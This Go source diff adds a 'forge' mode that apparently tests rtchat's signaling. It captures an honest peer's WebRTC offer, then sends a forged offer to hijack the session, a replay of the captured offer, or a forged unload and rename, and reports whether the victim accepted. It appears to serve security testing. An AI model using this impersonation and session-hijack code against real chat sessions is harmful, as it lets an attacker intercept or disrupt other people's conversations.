@@ -1,0 +1,163 @@
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"flag"
+	"time"
+
+	"github.com/rtchat/rtchat/keys"
+)
+
+// forge mode: attacks a live session between -from (alice, running `rtchat connect bob`)
+// and the victim listener with signaling in alice's name. It watches the topic until alice
+// offers to bob (capturing the offer's exact bytes and both full names), emits
+// "captured", waits for "go" on stdin, then publishes, per -kind:
+//
+//	offer       a fresh RTCOffer in alice's name (alice's userInfo, a real pion offer with
+//	            our own DTLS certificate and the 12 rtchat channels) to bob; if bob answers,
+//	            we complete the connection (hijack attempt) and never prove anything
+//	replay      alice's captured RTCOffer, byte for byte, at least -replay-after after it
+//	            was captured
+//	unload      a forged unload in alice's name, then a forged nameChange
+//	            {oldName: alice, newName: alice(evil)}
+//
+// then runs a barrier (bob's presence reply to our probe: bob's receive loop handled the
+// forgery) and emits "sent". Summary: whether bob answered the forged offer and whether
+// our hijack connection came up.
+func runForge(ctx context.Context, args []string, ctl *control) error {
+	fs := flag.NewFlagSet("forge", flag.ExitOnError)
+	var c common
+	var from, kind string
+	var replayAfter time.Duration
+	fs.StringVar(&from, "from", "alice", "bare name of the honest peer we forge")
+	fs.StringVar(&kind, "kind", "offer", "offer, replay or unload")
+	fs.DurationVar(&replayAfter, "replay-after", 3*time.Second, "replay: the least age of the captured offer")
+	ctx, cancel := parse(ctx, fs, &c, args)
+	defer cancel()
+	id, err := keys.Generate("mallory")
+	if err != nil {
+		return err
+	}
+	r, err := dialRoom(ctx, c.broker, c.room, "mallory("+randHex(2)+")", id.PublicJWK)
+	if err != nil {
+		return err
+	}
+	defer r.close()
+
+	type capture struct {
+		raw    []byte
+		sender string
+		target string
+		info   userInfo
+		at     time.Time
+	}
+	captured := make(chan capture, 1)
+	off := r.on(func(env envelope, raw []byte) {
+		if env.Subtopic != subOffer || keys.BareName(env.Sender) != from {
+			return
+		}
+		var d offerData
+		if json.Unmarshal(env.Data, &d) != nil || keys.BareName(d.Offer.Target) != c.victim {
+			return
+		}
+		select {
+		case captured <- capture{raw: append([]byte(nil), raw...), sender: env.Sender, target: d.Offer.Target, info: d.UserInfo, at: time.Now()}:
+		default: // keep the first
+		}
+	})
+	out.emit("watching", nil)
+	var cp capture
+	select {
+	case cp = <-captured:
+	case <-ctx.Done():
+		return ctx.Err()
+	}
+	off()
+	out.emit("captured", map[string]any{"alice": cp.sender, "bob": cp.target, "bytes": len(cp.raw)})
+	if !ctl.waitGo(ctx) {
+		return nil
+	}
+
+	var hijack *peer
+	answered := make(chan struct{})
+	summary := map[string]any{"kind": kind}
+	switch kind {
+	case "offer":
+		p, err := newPeer(cp.sender, cp.target, true, rtchatLabels(), nil)
+		if err != nil {
+			return err
+		}
+		hijack = p
+		defer p.close()
+		sdp, err := p.createOffer(ctx)
+		if err != nil {
+			return err
+		}
+		ans, offAns := awaitAnswer(r, cp.target, cp.sender)
+		defer offAns()
+		go func() {
+			select {
+			case env := <-ans:
+				close(answered)
+				var d answerData
+				if json.Unmarshal(env.Data, &d) == nil {
+					_ = p.applyAnswer(d.LocalDescription.SDP)
+				}
+			case <-ctx.Done():
+			}
+		}()
+		if err := r.publish(ctx, cp.sender, subOffer, map[string]any{
+			"userInfo": cp.info,
+			"offer":    map[string]any{"localDescription": sessionDesc{Type: "offer", SDP: sdp}, "target": cp.target},
+		}); err != nil {
+			return err
+		}
+	case "replay":
+		if d := replayAfter - time.Since(cp.at); d > 0 {
+			select { // the attack replays an old offer: let it age
+			case <-time.After(d):
+			case <-ctx.Done():
+				return ctx.Err()
+			}
+		}
+		summary["age_ms"] = time.Since(cp.at).Milliseconds()
+		if err := r.publishRaw(ctx, cp.raw); err != nil {
+			return err
+		}
+	case "unload":
+		if err := r.publish(ctx, cp.sender, subUnload, "disconnecting"); err != nil {
+			return err
+		}
+		if err := r.publish(ctx, keys.BareName(cp.sender)+"(evil)", subNameChange,
+			map[string]string{"oldName": cp.sender, "newName": keys.BareName(cp.sender) + "(evil)"}); err != nil {
+			return err
+		}
+	default:
+		out.emit("error", map[string]any{"error": "unknown -kind " + kind})
+		return nil
+	}
+	synced := r.barrier(ctx, cp.target, 5*time.Second)
+	out.emit("sent", map[string]any{"kind": kind, "barrier": synced})
+
+	select {
+	case <-ctl.stopCh:
+	case <-ctx.Done():
+	}
+	if hijack != nil {
+		select {
+		case <-answered:
+			summary["bob_answered"] = true
+		default:
+			summary["bob_answered"] = false
+		}
+		select {
+		case <-hijack.allOpen:
+			summary["hijack_connected"] = true
+		default:
+			summary["hijack_connected"] = false
+		}
+	}
+	out.emit("summary", summary)
+	return nil
+}
